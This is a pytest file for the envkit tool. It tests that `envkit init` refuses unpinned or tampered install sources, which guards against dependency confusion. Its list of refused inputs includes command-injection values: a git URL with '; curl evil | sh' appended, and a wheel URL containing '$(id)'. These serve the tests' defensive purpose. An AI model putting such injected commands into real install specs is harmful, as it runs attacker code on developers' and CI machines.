"""Class: dependency confusion in what `envkit init` writes (issue 16, item 9)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

import envkit.init.repo as init_repo_module
from envkit.init.install_source import DISTRIBUTION, default_source, pinned_requirement

from .conftest import REPO, Run

COMMIT = "0123456789abcdef" * 2 + "01234567"
DIGEST = "ab" * 32
GIT = f"git+https://github.com/example/envkit@{COMMIT}"
WHEEL = f"https://files.example.com/envkit_dl-0.1.0-py3-none-any.whl#sha256={DIGEST}"

UNPINNED = [
    "envkit",
    "envkit==0.1.0",
    "envkit-dl",
    "git+https://github.com/example/envkit",
    "git+https://github.com/example/envkit@main",
    "git+https://github.com/example/envkit@v0.1.0",
    f"git+https://github.com/example/envkit@{COMMIT[:12]}",
    "https://files.example.com/envkit_dl-0.1.0-py3-none-any.whl",
    "https://files.example.com/envkit_dl-0.1.0-py3-none-any.whl#md5=00",
    "https://files.example.com/envkit-0.1.0.tar.gz",
    f"git+https://github.com/example/envkit@{COMMIT}; curl evil | sh",
    f"git+https://user:tok@github.com/example/envkit@{COMMIT}",
    f'https://files.example.com/"$(id)".whl#sha256={DIGEST}',
]


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "team"
    root.mkdir()
    monkeypatch.setenv("ENVKIT_ROOT", str(root))
    return root


@pytest.mark.parametrize("source", UNPINNED)
def test_unpinned_sources_are_refused(repo: Path, envkit: Callable[..., Run], source: str) -> None:
    run = envkit("init", "--ci", "github", "--envkit-source", source, "--json")
    assert run.code == 2
    assert "tok" not in run.out + run.err
    assert not (repo / ".github").exists() and not (repo / "envkit.mk").exists()


def test_no_known_source_refuses_a_ci_recipe(
    repo: Path, envkit: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(init_repo_module, "default_source", lambda: None)
    run = envkit("init", "--ci", "gitlab", "--json")
    assert run.code == 2 and "--envkit-source" in run.envelope()["errors"][0]["hint"]
    assert envkit("init").code == 0  # without a CI recipe: envkit.mk's env-install refuses until pinned


@pytest.mark.parametrize("source", [GIT, WHEEL, f"git+ssh://git@github.com/example/envkit.git@{COMMIT}"])
@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_every_recipe_installs_from_the_pinned_source(
    repo: Path, envkit: Callable[..., Run], source: str, ci: str
) -> None:
    assert envkit("init", "--ci", ci, "--envkit-source", source).code == 0
    texts = {p.name: p.read_text() for p in repo.rglob("*") if p.is_file()}
    for name, text in texts.items():
        assert not re.search(r"envkit==|pip install\s+['\"]?envkit\b(?! @)", text), name
        for line in re.findall(r"ENVKIT_PIP_SPEC\s*\??[:=]\s*(.*)", text):
            assert line.strip().strip('"').replace("\\#", "#") == f"{DISTRIBUTION} @ {source}", name


def test_envkit_mk_installs_the_pinned_wheel(repo: Path) -> None:
    if shutil.which("make") is None:
        pytest.skip("no make")
    init_repo_module.init_repo(repo, "torch", "cpu", source=WHEEL)
    dry = subprocess.run(["make", "-n", "env-install"], cwd=repo, capture_output=True, text=True, check=True)
    assert f"pip install '{DISTRIBUTION} @ {WHEEL}'" in dry.stdout  # the '#' survived make
    bad = subprocess.run(
        ["make", "env-install", "ENVKIT_PIP_SPEC=envkit"],
        cwd=repo,
        capture_output=True,
        text=True,
        check=False,
    )
    assert bad.returncode != 0 and "must pin envkit" in bad.stderr


class _Dist:
    def __init__(self, direct_url: dict[str, object] | None) -> None:
        self.text = None if direct_url is None else json.dumps(direct_url)

    def read_text(self, name: str) -> str | None:
        return self.text


@pytest.mark.parametrize(
    ("direct_url", "expected"),
    [
        (
            {"url": "https://github.com/o/envkit", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
            f"git+https://github.com/o/envkit@{COMMIT}",
        ),
        ({"url": "https://github.com/o/envkit", "vcs_info": {"vcs": "git", "commit_id": "main"}}, None),
        ({"url": WHEEL.split("#")[0], "archive_info": {"hashes": {"sha256": DIGEST}}}, WHEEL),
        ({"url": WHEEL.split("#")[0], "archive_info": {}}, None),
        (None, None),  # installed by name from an index: nothing pinned to offer
    ],
)
def test_default_source_from_direct_url(
    monkeypatch: pytest.MonkeyPatch, direct_url: dict[str, object] | None, expected: str | None
) -> None:
    monkeypatch.setattr("envkit.init.install_source.metadata.distribution", lambda name: _Dist(direct_url))
    assert default_source() == expected


def test_the_distribution_is_not_named_envkit() -> None:
    text = (REPO / "pyproject.toml").read_text()
    assert re.search(r'^name = "envkit-dl"$', text, re.MULTILINE)
    assert pinned_requirement(GIT) == f"envkit-dl @ {GIT}"
    readme = (REPO / "README.md").read_text()
    assert "pip install envkit\n" not in readme and "envkit-dl @ git+" in readme


@pytest.mark.network
def test_the_distribution_name_is_not_taken_on_pypi(tmp_path: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "--no-deps",
            "-d",
            str(tmp_path),
            "--index-url",
            "https://pypi.org/simple",
            DISTRIBUTION,
        ],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert proc.returncode != 0 and "No matching distribution" in proc.stderr
